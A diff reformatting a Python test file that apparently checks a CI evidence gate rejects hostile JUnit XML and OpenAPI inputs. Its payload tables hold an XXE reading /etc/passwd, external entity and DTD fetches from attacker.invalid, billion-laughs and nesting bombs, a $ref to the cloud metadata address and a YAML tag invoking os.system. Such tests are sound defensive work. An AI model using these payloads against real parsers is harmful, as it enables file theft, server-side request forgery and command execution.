@@ -28,17 +28,23 @@ SECONDS = 2.0
 PEAK_BYTES = 40 * 1024 * 1024
 LIMIT = 2 * 1024 * 1024
 
-CONFIG = ProjectConfig.model_validate({
-    "environments": ["staging"], "unclassified_policy": "unit-tests",
-    "derivation_rules": [{"openapi": "api", "policy_id": "unit-tests", "per": "operation"}]})
+CONFIG = ProjectConfig.model_validate(
+    {
+        "environments": ["staging"],
+        "unclassified_policy": "unit-tests",
+        "derivation_rules": [{"openapi": "api", "policy_id": "unit-tests", "per": "operation"}],
+    }
+)
 POLICY = Policy.model_validate(UNIT_POLICY)
 
 
 @pytest.fixture(autouse=True)
 def no_network(monkeypatch):
     """Any attempt to open a connection fails the test: nothing here may be fetched."""
+
     def refuse(*_args, **_kwargs):
         raise AssertionError("a hostile input made the gate open a network connection")
+
     monkeypatch.setattr(socket, "create_connection", refuse)
     monkeypatch.setattr(socket.socket, "connect", refuse)
 
@@ -70,43 +76,90 @@ def bounded(action: Callable[[], object]) -> tuple[BaseException, float, int]:
 
 
 def evidence(xml: str) -> EvidenceRequest:
-    return EvidenceRequest.model_validate({
-        "check_id": "C1", "subject": "payments", "revision": REV, "environment": "staging", "scope": ["api"],
-        "observed_at": datetime(2026, 11, 29, tzinfo=UTC), "source": {"system": "ci"}, "junit_xml": xml})
+    return EvidenceRequest.model_validate(
+        {
+            "check_id": "C1",
+            "subject": "payments",
+            "revision": REV,
+            "environment": "staging",
+            "scope": ["api"],
+            "observed_at": datetime(2026, 11, 29, tzinfo=UTC),
+            "source": {"system": "ci"},
+            "junit_xml": xml,
+        }
+    )
 
 
 # ---- JUnit ------------------------------------------------------------------------------------------------
 
 LOL = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
 HOSTILE_JUNIT = {
-    "external entity (XXE)": ('<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
-                              '<testsuite><testcase name="&x;"/></testsuite>', "MALFORMED_EVIDENCE", "DOCTYPE"),
-    "external parameter entity": ('<!DOCTYPE t [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]>'
-                                  "<testsuite/>", "MALFORMED_EVIDENCE", "DOCTYPE"),
-    "external DTD": ('<!DOCTYPE testsuite SYSTEM "http://attacker.invalid/junit.dtd"><testsuite/>',
-                     "MALFORMED_EVIDENCE", "DOCTYPE"),
-    "billion laughs": (f'<!DOCTYPE t [<!ENTITY l0 "lol">{LOL}]><testsuite name="&l9;"/>', "MALFORMED_EVIDENCE",
-                       "DOCTYPE"),
-    "undeclared entity": ("<testsuite><testcase>&oob;</testcase></testsuite>", "MALFORMED_EVIDENCE",
-                          "undefined entity"),
+    "external entity (XXE)": (
+        '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+        '<testsuite><testcase name="&x;"/></testsuite>',
+        "MALFORMED_EVIDENCE",
+        "DOCTYPE",
+    ),
+    "external parameter entity": (
+        '<!DOCTYPE t [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]><testsuite/>',
+        "MALFORMED_EVIDENCE",
+        "DOCTYPE",
+    ),
+    "external DTD": (
+        '<!DOCTYPE testsuite SYSTEM "http://attacker.invalid/junit.dtd"><testsuite/>',
+        "MALFORMED_EVIDENCE",
+        "DOCTYPE",
+    ),
+    "billion laughs": (
+        f'<!DOCTYPE t [<!ENTITY l0 "lol">{LOL}]><testsuite name="&l9;"/>',
+        "MALFORMED_EVIDENCE",
+        "DOCTYPE",
+    ),
+    "undeclared entity": (
+        "<testsuite><testcase>&oob;</testcase></testsuite>",
+        "MALFORMED_EVIDENCE",
+        "undefined entity",
+    ),
     "nesting bomb": ("<testsuites>" + "<testsuite>" * 150_000, "MALFORMED_EVIDENCE", "256"),
-    "huge attribute over the limit": ('<testsuite><testcase name="' + "a" * LIMIT + '"/></testsuite>',
-                                      "PAYLOAD_TOO_LARGE", "bytes"),
-    "huge text over the limit": ("<testsuite><testcase><system-out>" + "é" * (LIMIT // 2) +
-                                 "</system-out></testcase></testsuite>", "PAYLOAD_TOO_LARGE", "bytes"),
-    "UTF-7 declaration hiding a failure": ('<?xml version="1.0" encoding="UTF-7"?><testsuite><testcase>'
-                                           "+ADw-failure/+AD4-</testcase></testsuite>", "MALFORMED_EVIDENCE",
-                                           "UTF-7"),
-    "UTF-16 declaration on UTF-8 text": ('<?xml version="1.0" encoding="UTF-16"?><testsuite><testcase/>'
-                                         "</testsuite>", "MALFORMED_EVIDENCE", "UTF-16"),
+    "huge attribute over the limit": (
+        '<testsuite><testcase name="' + "a" * LIMIT + '"/></testsuite>',
+        "PAYLOAD_TOO_LARGE",
+        "bytes",
+    ),
+    "huge text over the limit": (
+        "<testsuite><testcase><system-out>" + "é" * (LIMIT // 2) + "</system-out></testcase></testsuite>",
+        "PAYLOAD_TOO_LARGE",
+        "bytes",
+    ),
+    "UTF-7 declaration hiding a failure": (
+        '<?xml version="1.0" encoding="UTF-7"?><testsuite><testcase>'
+        "+ADw-failure/+AD4-</testcase></testsuite>",
+        "MALFORMED_EVIDENCE",
+        "UTF-7",
+    ),
+    "UTF-16 declaration on UTF-8 text": (
+        '<?xml version="1.0" encoding="UTF-16"?><testsuite><testcase/></testsuite>',
+        "MALFORMED_EVIDENCE",
+        "UTF-16",
+    ),
     "NUL byte": ('<testsuite><testcase name="a\x00"/></testsuite>', "MALFORMED_EVIDENCE", "NUL"),
     "lone surrogate": ('<testsuite><testcase name="\ud800"/></testsuite>', "MALFORMED_EVIDENCE", "Unicode"),
-    "truncated": ('<testsuite><testcase name="a"/><testcase name="b"><skipped', "MALFORMED_EVIDENCE",
-                  "not well-formed"),
-    "merge-conflict debris": ("<testsuite>\n<<<<<<< HEAD\n<testcase/>\n=======\n<testcase><failure/></testcase>\n"
-                              ">>>>>>> main\n</testsuite>", "MALFORMED_EVIDENCE", "not well-formed"),
-    "two concatenated reports": ("<testsuite><testcase/></testsuite><testsuite><testcase><failure/></testcase>"
-                                 "</testsuite>", "MALFORMED_EVIDENCE", "junk after document element"),
+    "truncated": (
+        '<testsuite><testcase name="a"/><testcase name="b"><skipped',
+        "MALFORMED_EVIDENCE",
+        "not well-formed",
+    ),
+    "merge-conflict debris": (
+        "<testsuite>\n<<<<<<< HEAD\n<testcase/>\n=======\n<testcase><failure/></testcase>\n"
+        ">>>>>>> main\n</testsuite>",
+        "MALFORMED_EVIDENCE",
+        "not well-formed",
+    ),
+    "two concatenated reports": (
+        "<testsuite><testcase/></testsuite><testsuite><testcase><failure/></testcase></testsuite>",
+        "MALFORMED_EVIDENCE",
+        "junk after document element",
+    ),
     "not XML": ('{"tests": 10, "failures": 0}', "MALFORMED_EVIDENCE", "not well-formed"),
     "HTML error page": ("<html><body>502 Bad Gateway</body></html>", "MALFORMED_EVIDENCE", "root element"),
 }
@@ -165,7 +218,9 @@ def _alias_bomb() -> str:
 
 def _merge_bomb() -> str:
     lines = ["m0: &m0 {k0: 1, k1: 2, k2: 3, k3: 4, k4: 5, k5: 6, k6: 7, k7: 8}"]
-    lines += [f"m{i}: &m{i} {{<<: [" + ", ".join([f"*m{i - 1}"] * 8) + f"], own{i}: 1}}" for i in range(1, 12)]
+    lines += [
+        f"m{i}: &m{i} {{<<: [" + ", ".join([f"*m{i - 1}"] * 8) + f"], own{i}: 1}}" for i in range(1, 12)
+    ]
     return HEAD + "x-merge:\n  " + "\n  ".join(lines) + "\npaths: {}\n"
 
 
@@ -175,10 +230,14 @@ def _schemas(body: str) -> str:
 
 def _distinct_ref_nesting() -> str:
     # 400 different schemas, each holding the next in a property: no cycle, no chain, just deep
-    body = "".join(f"    S{i}: {{type: object, properties: {{x: {{$ref: '#/components/schemas/S{i + 1}'}}}}}}\n"
-                   for i in range(400))
-    paths = ("paths:\n  /a:\n    get:\n      responses:\n        '200':\n          description: ok\n"
-             "          content: {application/json: {schema: {$ref: '#/components/schemas/S0'}}}\n")
+    body = "".join(
+        f"    S{i}: {{type: object, properties: {{x: {{$ref: '#/components/schemas/S{i + 1}'}}}}}}\n"
+        for i in range(400)
+    )
+    paths = (
+        "paths:\n  /a:\n    get:\n      responses:\n        '200':\n          description: ok\n"
+        "          content: {application/json: {schema: {$ref: '#/components/schemas/S0'}}}\n"
+    )
     return HEAD + paths + "components:\n  schemas:\n" + body + "    S400: {type: string}\n"
 
 
@@ -191,8 +250,10 @@ def _unmodelled_keyword_nesting() -> str:
         for _ in range(40):
             inner = f"{{type: object, properties: {{p: {inner}}}}}"
         schemas += f"    S{i}: {{if: {inner}}}\n"
-    paths = ("paths:\n  /a:\n    get:\n      responses:\n        '200':\n          description: ok\n"
-             "          content: {application/json: {schema: {$ref: '#/components/schemas/S0'}}}\n")
+    paths = (
+        "paths:\n  /a:\n    get:\n      responses:\n        '200':\n          description: ok\n"
+        "          content: {application/json: {schema: {$ref: '#/components/schemas/S0'}}}\n"
+    )
     return HEAD.replace("3.0.0", "3.1.0") + paths + "components:\n  schemas:\n" + schemas + "    S6: {}\n"
 
 
@@ -204,19 +265,29 @@ HOSTILE_OPENAPI = {
     "deeply nested YAML": (HEAD + "paths: " + "[" * 200_000 + "]" * 200_000 + "\n", "nest"),
     "deeply nested JSON": ('{"openapi": "3.0.0", "paths": ' + "[" * 500_000 + "]" * 500_000 + "}", "nest"),
     "external $ref to a file": (_schemas("    Pet: {$ref: '../secrets/pet.yaml#/Pet'}\n"), "never fetched"),
-    "external $ref to a URL": (_schemas("    Pet: {$ref: 'http://169.254.169.254/latest/meta-data/'}\n"),
-                               "never fetched"),
+    "external $ref to a URL": (
+        _schemas("    Pet: {$ref: 'http://169.254.169.254/latest/meta-data/'}\n"),
+        "never fetched",
+    ),
     "external $ref to file://": (_schemas("    Pet: {$ref: 'file:///etc/passwd'}\n"), "never fetched"),
-    "circular $ref chain": (_schemas("    A: {$ref: '#/components/schemas/B'}\n"
-                                     "    B: {$ref: '#/components/schemas/A'}\n"), "circular"),
-    "very long $ref chain": (_schemas("".join(f"    S{i}: {{$ref: '#/components/schemas/S{i + 1}'}}\n"
-                                              for i in range(1000)) + "    S1000: {type: string}\n"),
-                             "chains more than"),
+    "circular $ref chain": (
+        _schemas("    A: {$ref: '#/components/schemas/B'}\n    B: {$ref: '#/components/schemas/A'}\n"),
+        "circular",
+    ),
+    "very long $ref chain": (
+        _schemas(
+            "".join(f"    S{i}: {{$ref: '#/components/schemas/S{i + 1}'}}\n" for i in range(1000))
+            + "    S1000: {type: string}\n"
+        ),
+        "chains more than",
+    ),
     "schemas nested through 400 distinct $refs": (_distinct_ref_nesting(), "levels deep through $ref"),
     "oversized document": (HEAD + "paths: {}\nx-pad: '" + "a" * LIMIT + "'\n", "characters long"),
     # (as JSON: YAML of this size takes seconds under tracemalloc; test_openapi checks YAML's count exactly)
-    "too many nodes": ('{"openapi": "3.0.0", "paths": {}, "x-many": [' + ",".join(["1"] * 300_000) + "]}",
-                       "nodes"),
+    "too many nodes": (
+        '{"openapi": "3.0.0", "paths": {}, "x-many": [' + ",".join(["1"] * 300_000) + "]}",
+        "nodes",
+    ),
     "arbitrary Python object tag": (HEAD + "paths: {}\nx-p: !!python/object/apply:os.system ['id']\n", "tag"),
     "duplicate keys": (HEAD + "paths: {}\npaths: {/admin: {}}\n", "appears twice"),
     "NUL byte": (HEAD + "paths: {}\n\x00", "NUL"),
@@ -245,8 +316,9 @@ def test_an_inline_object_nested_too_deeply_is_refused():
     for _ in range(5_000):
         cursor["x"] = {}
         cursor = cursor["x"]
-    change = Change.model_validate({"openapi": [{"name": "api", "before": None,
-                                                 "after": {"openapi": "3.0.0", "x-deep": deep}}]})
+    change = Change.model_validate(
+        {"openapi": [{"name": "api", "before": None, "after": {"openapi": "3.0.0", "x-deep": deep}}]}
+    )
     # When obligations are derived, Then it is refused on the depth cap, not on Python's recursion limit
     error, _elapsed, _peak = bounded(lambda: derive(change, CONFIG))
     assert "nests more than" in str(error)
@@ -258,9 +330,12 @@ def test_a_schema_shared_through_many_paths_is_compared_once_per_pair():
     levels = 30
     schemas = "".join(
         f"    S{i}: {{allOf: [" + ", ".join([f"{{$ref: '#/components/schemas/S{i + 1}'}}"] * 4) + "]}\n"
-        for i in range(levels))
-    paths = ("paths:\n  /a:\n    get:\n      responses:\n        '200':\n          description: ok\n"
-             "          content: {application/json: {schema: {$ref: '#/components/schemas/S0'}}}\n")
+        for i in range(levels)
+    )
+    paths = (
+        "paths:\n  /a:\n    get:\n      responses:\n        '200':\n          description: ok\n"
+        "          content: {application/json: {schema: {$ref: '#/components/schemas/S0'}}}\n"
+    )
     before = HEAD + paths + "components:\n  schemas:\n" + schemas + f"    S{levels}: {{type: string}}\n"
     after = before.replace(f"S{levels}: {{type: string}}", f"S{levels}: {{type: integer}}")
     change = Change.model_validate({"openapi": [{"name": "api", "before": before, "after": after}]})
